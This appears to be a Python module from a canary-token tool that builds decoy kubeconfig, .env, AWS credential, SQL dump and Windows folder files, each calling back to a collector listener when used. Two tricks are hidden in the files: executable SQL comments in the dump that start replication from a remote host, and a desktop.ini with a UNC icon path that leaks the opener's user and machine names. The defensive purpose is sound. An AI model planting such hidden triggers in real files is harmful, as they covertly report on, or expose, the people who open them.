"""Configuration and data that somebody who found them would try: each leads to a listener of the collector's.

Only what a listener answers is offered. Keys and passwords in them are random and open nothing.
"""

import base64
from io import BytesIO
from zipfile import ZipFile, ZipInfo

from lapwing.callbacks.planting.documents import ZIP_TIME
from lapwing.callbacks.planting.names import UPPER, Artefact, Grain, Names, Wishes
from lapwing.callbacks.responders.http_answers import HttpAnswer

# What a Kubernetes API server says to whom it does not know: clients show it in words.
UNAUTHORISED = HttpAnswer(
    401,
    (("Content-Type", "application/json"), ("Cache-Control", "no-cache, private")),
    b'{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"Unauthorized",'
    b'"reason":"Unauthorized","code":401}\n',
)
DOS_DIRECTORY, DOS_HIDDEN, DOS_SYSTEM = 0x10, 0x02, 0x04


def kubeconfig(names: Names, wishes: Wishes, grain: Grain) -> Artefact:
    """A kubeconfig: whoever uses it talks to the collector's HTTPS listener."""
    cluster = wishes.title or "production"
    name = "".join(one if one.isalnum() or one in "-." else "-" for one in cluster.lower())
    bearer = grain.letters("bearer", 64)
    text = (
        f"apiVersion: v1\nkind: Config\ncurrent-context: {name}\nclusters:\n- name: {name}\n  cluster:\n"
        f"    server: {names.url('')}\n    insecure-skip-tls-verify: true\n"
        f"contexts:\n- name: {name}\n  context:\n    cluster: {name}\n    user: deployer\n"
        f"users:\n- name: deployer\n  user:\n    token: {bearer}\n"
    )
    return Artefact(text, "kubeconfig", text.encode(), UNAUTHORISED)


def env_file(names: Names, wishes: Wishes, grain: Grain) -> Artefact:  # noqa: ARG001 - all kinds are made alike
    """An `.env` file: every service in it is a name of the token."""
    lines = {
        "APP_ENV": "production",
        "APP_KEY": f"base64:{base64.b64encode(grain.letters('app', 32).encode()).decode()}",
        "API_URL": names.url("/v2"),
        "API_TOKEN": grain.letters("api", 40),
        "DATABASE_URL": f"postgres://app:{grain.letters('database', 24)}@db.{names.host}:5432/app",
        "REDIS_URL": f"rediss://:{grain.letters('redis', 24)}@cache.{names.host}:6379/0",
        "SMTP_HOST": f"mail.{names.host}",
        "SMTP_USER": names.mail_address,
        "SMTP_PASSWORD": grain.letters("mail", 20),
        "LDAP_URL": f"ldap://directory.{names.host}",
    }
    text = "".join(f"{name}={value}\n" for name, value in lines.items())
    return Artefact(text, ".env", text.encode())


def cloud_credentials(names: Names, wishes: Wishes, grain: Grain) -> Artefact:
    """An AWS profile with an endpoint of its own: tools that use it ask the collector."""
    profile = "".join(one if one.isalnum() else "-" for one in (wishes.title or "backup").lower())
    text = (
        f"[{profile}]\naws_access_key_id = AKIA{grain.letters('id', 16, UPPER)}\n"
        f"aws_secret_access_key = {grain.letters('secret', 40)}\nregion = eu-central-1\n"
        f"endpoint_url = {names.url('')}\n"
    )
    return Artefact(text, "credentials", text.encode())


def sql_dump(names: Names, wishes: Wishes, grain: Grain) -> Artefact:
    """A dump for MySQL and MariaDB: the server that loads it looks for its source and so asks for the token's name."""
    table = "".join(one if one.isalnum() else "_" for one in (wishes.title or "customers").lower())
    rows = ",\n".join(
        f"({number},'{grain.letters(f'name{number}', 8).lower()}@example.com','{grain.letters(f'hash{number}', 40)}')"
        for number in range(1, 21)
    )
    password = grain.letters("replica", 20)
    text = (
        f"-- MySQL dump 10.13  Distrib 8.0.36\n-- Host: localhost    Database: {table}\n\n"
        f"DROP TABLE IF EXISTS `{table}`;\nCREATE TABLE `{table}` (`id` int NOT NULL, `email` varchar(255), "
        f"`password` varchar(64), PRIMARY KEY (`id`));\nINSERT INTO `{table}` VALUES\n{rows};\n\n"
        # Comments that one of the two servers executes (MySQL from 8.0.23, MariaDB), for their words differ.
        f"/*!80023 CHANGE REPLICATION SOURCE TO SOURCE_HOST='{names.host}', SOURCE_PORT=3306, SOURCE_USER='replica', "
        f"SOURCE_PASSWORD='{password}', SOURCE_CONNECT_RETRY=60, SOURCE_RETRY_COUNT=1 */;\n/*!80023 START REPLICA */;\n"
        f"/*M!100000 CHANGE MASTER TO MASTER_HOST='{names.host}', MASTER_PORT=3306, MASTER_USER='replica', "
        f"MASTER_PASSWORD='{password}', MASTER_CONNECT_RETRY=60 */;\n/*M!100000 START SLAVE */;\n"
    )
    return Artefact(text, f"{table}.sql", text.encode())


def windows_folder(names: Names, wishes: Wishes, grain: Grain) -> Artefact:  # noqa: ARG001
    """A folder whose icon lies on the token: Explorer asks for its name, with who looks and where."""
    place = f"\\\\%USERNAME%.%COMPUTERNAME%.%USERDOMAIN%.{names.host}\\resource.dll"
    text = f"[.ShellClassInfo]\r\nIconResource={place}\r\n"
    folder = (wishes.title or "Documents").replace("/", "-").replace("\\", "-")
    packed = BytesIO()
    with ZipFile(packed, "w") as archive:
        for name, data, attributes in (
            (f"{folder}/", b"", DOS_DIRECTORY | DOS_SYSTEM),  # desktop.ini is read in system folders only
            (f"{folder}/desktop.ini", b"\xff\xfe" + text.encode("utf-16-le"), DOS_HIDDEN | DOS_SYSTEM),
        ):
            info = ZipInfo(name, ZIP_TIME)
            info.create_system = 0  # DOS attributes
            info.external_attr = attributes
            archive.writestr(info, data)
    return Artefact(text, f"{folder}.zip", packed.getvalue())
